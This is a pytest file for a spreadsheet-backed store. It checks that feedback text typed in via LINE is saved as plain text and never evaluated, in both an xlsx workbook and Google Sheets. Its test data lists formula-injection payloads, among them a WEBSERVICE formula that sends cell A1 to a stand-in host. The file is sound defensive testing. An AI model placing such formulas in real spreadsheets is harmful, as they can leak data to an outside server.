"""Text from LINE stays text in every backend: written so that no spreadsheet evaluates it, read
back identical (issue 9: formulas typed as feedback became live in the workbook)."""
from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from sheets.store import Store

TYPED = [
    '=WEBSERVICE("http://example.invalid/?q="&A1)',
    "=IMPORTXML(\"http://example.invalid\", \"//a\")",
    '=HYPERLINK("http://example.invalid","คลิก")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
]


@pytest.mark.parametrize("text", TYPED)
def test_formula_text_is_stored_as_text_and_read_back_identical(store: Store, text: str) -> None:
    store.append("feedback", [{"officer_id": "OF01", "text": text}])
    rows = store.read(["feedback"])["feedback"].rows
    assert rows[-1][1:] == ["OF01", text]


def test_the_workbook_holds_no_formula_cell(workbook_store: Store) -> None:
    for text in TYPED:
        workbook_store.append("feedback", [{"officer_id": "OF01", "text": text}])
    with zipfile.ZipFile(Path(workbook_store.path)) as book:  # type: ignore[attr-defined]
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in book.read(n) for n in sheets)


def test_the_google_store_writes_raw_so_nothing_is_evaluated(google_store: Store, sheets_fake) -> None:
    for text in TYPED:
        google_store.append("feedback", [{"officer_id": "OF01", "text": text}])
    writes = [r for r in sheets_fake.requests if r.kind in ("values.append", "values.update")]
    assert writes and all(r.query.get("valueInputOption") == ["RAW"] for r in writes)
